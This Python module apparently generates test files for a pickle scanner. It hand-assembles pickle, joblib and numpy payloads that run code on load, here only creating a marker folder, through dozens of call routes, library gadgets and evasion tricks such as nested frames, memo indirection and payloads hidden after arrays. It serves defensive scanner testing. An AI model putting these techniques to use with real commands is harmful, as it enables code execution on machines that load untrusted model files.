"""Files made to act while they are loaded: each would make the folder it is given, were it carried out.

Written opcode by opcode, so that none depends on what a pickler is willing to write.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

import joblib
import numpy as np

HEAD = b"\x80\x04"


class Payload(NamedTuple):
    """One file: its name (the ending tells who is to load it) and its bytes."""

    name: str
    data: bytes


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """REDUCE of that name with these arguments (each its own opcodes)."""
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def whole(body: bytes) -> bytes:
    return HEAD + body + b"."


def code(mark: str) -> str:
    return f"import os; os.mkdir({mark!r})"


def calls(mark: str) -> Iterator[tuple[str, bytes]]:
    """One call that does it, in as many ways as Python and the libraries offer."""
    shell, run, path = text(f"mkdir {mark}"), text(code(mark)), text(mark)
    yield "os.system", call("os", "system", shell)
    yield "posix.system", call("posix", "system", shell)
    yield "os.popen", call("os", "popen", shell)
    yield "os.mkdir", call("os", "mkdir", path)
    yield "os.makedirs", call("os", "makedirs", path)
    yield "nt.mkdir", call("nt", "mkdir", path)
    yield "os.execvp", call("os", "spawnlp", b"K\x00", text("mkdir"), text("mkdir"), path)
    yield "subprocess.call", call("subprocess", "call", b"]" + text("mkdir") + b"a" + path + b"a")
    yield "subprocess.Popen", call("subprocess", "Popen", b"]" + text("mkdir") + b"a" + path + b"a")
    yield "subprocess.getoutput", call("subprocess", "getoutput", shell)
    yield "commands.getoutput", b"ccommands\ngetoutput\n(" + shell + b"tR"
    yield "pty.spawn", call("pty", "spawn", b"]" + text("mkdir") + b"a" + path + b"a")
    yield "builtins.exec", call("builtins", "exec", run)
    yield "builtins.eval", call("builtins", "eval", text(f"__import__('os').mkdir({mark!r})"))
    yield "__builtin__.eval", b"c__builtin__\neval\n(" + text(f"__import__('os').mkdir({mark!r})") + b"tR"
    yield "__builtin__.execfile", b"c__builtin__\nexecfile\n(" + path + b"tR"
    yield "builtins.open", call("builtins", "open", path, text("w"))
    yield "io.open", call("io", "open", path, text("w"))
    yield "_io.FileIO", call("_io", "FileIO", path, text("w"))
    yield "runpy._run_code", call("runpy", "_run_code", call("builtins", "compile", run, path, text("exec")), b"}")
    yield "code.interpreter", call("code", "InteractiveInterpreter.runsource", b"N", run)
    yield "timeit.timeit", call("timeit", "timeit", run)
    yield "cProfile.run", call("cProfile", "run", run)
    yield "profile.run", call("profile", "run", run)
    yield "pdb.run", call("pdb", "run", run)
    yield "trace.Trace", call("trace", "Trace.run", b"N", run)
    yield "logging.FileHandler", call("logging", "FileHandler", path)
    yield "shutil.copytree", call("shutil", "copytree", text("/etc/apt"), path)
    yield "tempfile.mkdtemp", call("tempfile", "mkdtemp", text(""), text(""), path)
    yield "pathlib.dotted", call("pathlib", "Path.mkdir", call("pathlib", "PosixPath", path))
    yield "sqlite3.connect", call("sqlite3", "connect", path)
    yield "zipfile.ZipFile", call("zipfile", "ZipFile", path, text("w"))
    yield "gzip.open", call("gzip", "open", path, text("w"))
    yield "dbm.dumb", call("dbm.dumb", "open", path, text("n"))
    yield "shelve.open", call("shelve", "open", path)
    yield "venv.create", call("venv", "create", path)
    yield "ctypes", call("ctypes", "CDLL", b"N")
    yield "importlib", call("importlib", "import_module", text("antigravity"))


def library_calls(mark: str) -> Iterator[tuple[str, bytes]]:
    """The same by functions of libraries, and by what lies within their modules."""
    shell, run, path = text(f"mkdir {mark}"), text(code(mark)), text(mark)
    yield "numpy.save", call("numpy", "save", path, b"]")
    yield "numpy.savetxt", call("numpy", "savetxt", path, b"]")
    yield "numpy.memmap", call("numpy", "memmap", path, text("u1"), text("w+"), b"K\x00", b"K\x08")
    yield "numpy.load", call("numpy", "load", path, b"N", b"\x88")
    yield "numpy.runstring", call("numpy.testing._private.utils", "runstring", run, b"}")
    yield "pandas.eval", call("pandas", "eval", text("@__import__"))
    yield "pandas.to_csv", call("pandas", "DataFrame.to_csv", call("pandas", "DataFrame"), path)
    yield "joblib.dump", call("joblib", "dump", b"]", path)
    yield "joblib.Memory", call("joblib.memory", "Memory", path)
    yield "sklearn's os", call("sklearn.datasets._base", "os.mkdir", path)
    yield "joblib's os", call("joblib.memory", "os.mkdir", path)
    yield "pickle.loads", call("pickle", "loads", b"B" + _sized(whole(call("os", "mkdir", path))))
    yield "marshal", call("marshal", "loads", b"C\x01N")
    yield "IPython", call("IPython.utils.process", "system", shell)


def _sized(raw: bytes) -> bytes:
    return struct.pack("<I", len(raw)) + raw


def opcodes(mark: str) -> Iterator[tuple[str, bytes]]:
    """The same call, put so that who looks for it may not see it."""
    path = text(mark)
    act = call("os", "mkdir", path)
    yield "protocol 0", b"cos\nmkdir\n(V" + mark.encode() + b"\ntR."
    yield "no protocol", act + b"."
    yield "INST", b"(V" + mark.encode() + b"\nios\nmkdir\n."
    yield "OBJ", b"(cos\nmkdir\nV" + mark.encode() + b"\no."
    yield "NEWOBJ", whole(named("os", "mkdir") + path + b"\x85\x81")
    yield "NEWOBJ_EX", whole(named("os", "mkdir") + path + b"\x85}\x92")
    yield "memo", whole(text("os") + b"\x94" + text("mkdir") + b"\x94" + b"h\x00h\x01\x93" + path + b"\x85R")
    yield "popped", whole(act + b"0N")
    yield "in a list", whole(b"](" + b"K\x01" * 2000 + act + b"e")
    yield "as a key", whole(b"}" + named("os", "mkdir") + path + b"\x85R" + b"K\x01s")
    yield "stacked", whole(b"N") * 3 + whole(act)
    yield "behind None", whole(b"N0" + act)
    yield "in a frame", HEAD + b"\x95" + struct.pack("<Q", len(act) + 1) + act + b"."
    yield "across a frame", HEAD + b"\x95" + struct.pack("<Q", 3) + act + b"."
    yield "frame too long", HEAD + b"\x95" + struct.pack("<Q", len(act) + 50) + act + b"." + b"N" * 60
    yield "frame in a frame", _diverging(act)
    yield "unpickled by BUILD", whole(call("sklearn.utils._bunch", "Bunch") + b"}" + text("a") + act + b"sb")
    yield (
        "in state",
        whole(named("sklearn.linear_model._base", "LinearRegression") + b")\x81}" + text("a") + act + b"sb"),
    )
    yield "long name", whole(text("os") + b"X" + struct.pack("<I", 5) + b"mkdir\x93" + path + b"\x85R")
    yield "8-byte length", whole(b"\x8d" + struct.pack("<Q", 2) + b"os" + text("mkdir") + b"\x93" + path + b"\x85R")
    yield "duplicated", whole(named("os", "mkdir") + b"2" + path + b"\x85R")


def _diverging(act: bytes) -> bytes:
    """Bytes that some readers skip, and others carry out: a long frame begins inside a short one."""
    inner = act + b"."
    return HEAD + b"\x95" + struct.pack("<Q", 12) + b"N0\x95" + struct.pack("<Q", len(inner)) + inner


def gadgets(mark: str) -> Iterator[tuple[str, bytes]]:
    """By way of what might be let in: something harmless that calls what it is given, or gives what is not."""
    path, mkdir = text(mark), named("os", "mkdir")
    maker = call("operator", "attrgetter", text("__globals__"))
    yield "attrgetter", whole(maker + b"(" + named("sklearn.metrics._classification", "accuracy_score") + b"tR")
    yield (
        "methodcaller",
        whole(call("operator", "methodcaller", text("mkdir")) + call("pathlib", "PosixPath", path) + b"\x85R"),
    )
    yield "getattr", whole(call("builtins", "getattr", call("pathlib", "PosixPath", path), text("mkdir")) + b")R")
    yield "partial", whole(call("functools", "partial", mkdir, path) + b")R")
    yield (
        "partial of free",
        whole(call("functools", "partial", named("builtins", "len"), path) + b")R" + b"0" + call("os", "mkdir", path)),
    )
    yield "map", whole(call("builtins", "list", call("builtins", "map", mkdir, b"]" + path + b"a")))
    yield "reduce", whole(call("functools", "reduce", mkdir, b"]" + path + b"a"))
    yield "vectorize", whole(call("numpy", "vectorize", mkdir) + path + b"\x85R")
    yield "factory", whole(call("collections", "defaultdict", mkdir))
    yield "randomstate", whole(call("numpy.random._pickle", "__randomstate_ctor", path, mkdir))
    yield "generator", whole(call("numpy.random._pickle", "__generator_ctor", path, mkdir))
    yield "reconstructor", whole(call("copyreg", "_reconstructor", mkdir, named("builtins", "object"), b"N"))
    yield "transformer", whole(call("sklearn.preprocessing._function_transformer", "FunctionTransformer", mkdir))
    body = b"}" + text("__reduce__") + mkdir + b"s"
    yield "made class", whole(call("builtins", "type", text("X"), named("builtins", "object") + b"\x85", body) + b")R")
    yield (
        "class changed",
        whole(named("collections", "Counter") + b"N}" + text("update") + named("builtins", "len") + b"s\x86b"),
    )
    yield "users function", whole(call("__main__", "make_folder", path))
    yield (
        "users function passed",
        whole(call("numpy.random._pickle", "__generator_ctor", path, named("__main__", "make_folder"))),
    )
    yield "re-exported", whole(call("__main__", "mkdir", path))
    yield "imported, called", whole(call("strange_library", "Acts", path))
    yield "imported, made", whole(named("strange_library", "MakesItself") + path + b"\x85\x81")
    yield "imported function", whole(call("strange_library", "act", path))
    yield "imported alias", whole(call("strange_library", "mkdir", path))
    yield "booster", whole(call("xgboost.core", "Booster", b"N", b")", path) + b"0" + call("os", "mkdir", path))


def containers(mark: str) -> Iterator[Payload]:
    """One call, packed as libraries pack theirs."""
    act = whole(call("os", "mkdir", text(mark)))
    yield Payload("gzip.pd.pkl.gz", gzip.compress(act))
    yield Payload("bz2.pd.pkl.bz2", bz2.compress(act))
    yield Payload("xz.pd.pkl.xz", lzma.compress(act))
    yield Payload("zip.pd.pkl.zip", _zipped("a.pkl", act))
    yield Payload("tar.pd.pkl.tar", _tarred(act))
    yield Payload("zlib.joblib", zlib.compress(act))
    yield Payload("gzip.joblib", gzip.compress(act))
    yield Payload("bz2.joblib", bz2.compress(act))
    yield Payload("xz.joblib", lzma.compress(act))
    yield Payload("lzma.joblib", lzma.compress(act, lzma.FORMAT_ALONE))
    yield Payload("after arrays.joblib", _after_arrays(act))
    yield Payload("in an object array.joblib", _in_object_array(act))
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    yield Payload("array.npy", head.getvalue() + act)
    yield Payload("arrays.npz", _zipped("a.npy", head.getvalue() + act))
    yield Payload("plain.npy", act)


def _zipped(name: str, raw: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, raw)
    return held.getvalue()


def _tarred(raw: bytes) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        entry = tarfile.TarInfo("a.pkl")
        entry.size = len(raw)
        archive.addfile(entry, io.BytesIO(raw))
    return held.getvalue()


def _after_arrays(act: bytes) -> bytes:
    """Raw numbers lie before the call, as joblib writes them; the call takes the place of a text of its length."""
    body = act[2:-1]
    held = io.BytesIO()
    joblib.dump([np.arange(1000.0), "\0" * (len(body) - 3)], held)
    mark = b"X" + struct.pack("<I", len(body) - 3) + b"\0" * (len(body) - 3)
    short = b"\x8c" + bytes([(len(body) - 3) % 256]) + b"\0" * (len(body) - 3)
    raw = held.getvalue()
    found = mark if mark in raw else short
    at = raw.index(found)
    return raw[:at] + body + raw[at + len(found) :]


def _in_object_array(act: bytes) -> bytes:
    held = io.BytesIO()
    joblib.dump(np.array([None], dtype=object), held)
    raw = held.getvalue()
    at = raw.rindex(b"\x80")  # the pickle that numpy wrote for the array
    return raw[:at] + act + raw[raw.index(b".", at) + 1 :]


def corpus(mark: str) -> list[Payload]:
    """All of them, each to be loaded by whoever its ending names."""
    found = [Payload(f"{name}.pkl", whole(body)) for name, body in (*calls(mark), *library_calls(mark))]
    found += [Payload(f"{name}.pkl", raw) for name, raw in (*opcodes(mark), *gadgets(mark))]
    return [*found, *containers(mark)]
